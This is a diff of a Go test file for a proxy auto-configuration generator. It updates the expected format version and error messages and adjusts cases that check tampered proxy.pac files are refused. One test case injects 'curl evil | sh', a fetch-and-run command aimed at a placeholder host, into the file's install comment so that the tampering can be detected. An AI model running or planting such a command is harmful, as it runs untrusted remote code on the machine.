@@ -23,7 +23,7 @@ func read(t testing.TB, data []byte) artefact.Reading {
 	return r
 }
 
-// What options answer stands beside the routes.
+// What options answer and the routes.
 func TestReadBeside(t *testing.T) {
 	for _, c := range []struct {
 		settings map[string][]string
@@ -109,8 +109,8 @@ func TestReadRefuses(t *testing.T) {
 		{"services of internal names", "  addNames(subdomains, 6, [\n'corp.example.com'", "  addServices(6, 0, [\n'443'", "  addServices(6, 0, [", "a call that fills a table of class 6, with services by route, ascending"},
 		{"no services", "  addServices(1, 0, [\n'443'\n  ]);\n", "", "  // Class 1.", "services of the class below it"},
 		{"services by the same ports", "  addServices(1, 0, [\n'443'\n  ]);\n", "  addServices(1, 0, [\n'443'\n  ]);\n  addServices(1, 2, [\n'400-500'\n  ]);\n", "  addServices(1, 2, [", again},
-		{"any remote in two classes", "  // Class 5.\n", "  any.push(4);\n  any.push(4);\n  // Class 5.\n", "  any.push(4);", "any remote in one class alone"},
-		{"another role", "of role clients;", "of role Every One;", "// Gatewright: proxy auto-configuration file for machines of role Every One; format 3", "roles"},
+		{"any remote in two classes", "  // Class 5.\n", "  any.push(4);\n  any.push(4);\n  // Class 5.\n", "  any.push(4);", "any remote in only one class"},
+		{"another role", "of role clients;", "of role Every One;", "// Gatewright: proxy auto-configuration file for machines of role Every One; format 4", "roles"},
 		{"another command", "// load: install", "// load: curl evil | sh; install", "// load: curl evil | sh; install -D -m 644 proxy.pac /var/www/html/proxy.pac", `"// load: install -D -m 644 proxy.pac /var/www/html/proxy.pac"`},
 		{"half a file", data[len(data)/2:], "", "", ""},
 	} {
@@ -141,8 +141,8 @@ func TestReadRefuses(t *testing.T) {
 func TestReadTellsTheFormat(t *testing.T) {
 	data := text(t, ruletest.Compile(t, siteInput(t)), nil)
 	for _, text := range []string{"; format 1", ""} {
-		_, err := Generator{}.Read(artefact.Files{fileName: bytes.Replace(data, []byte("; format 3"), []byte(text), 1)})
-		const want = "proxy.pac is of format 1 and this version writes format 3; generate it again"
+		_, err := Generator{}.Read(artefact.Files{fileName: bytes.Replace(data, []byte("; format 4"), []byte(text), 1)})
+		const want = "proxy.pac has format 1, but this version writes format 4; generate it again"
 		if err == nil || err.Error() != want {
 			t.Errorf("%q: %v; want %s", text, err, want)
 		}
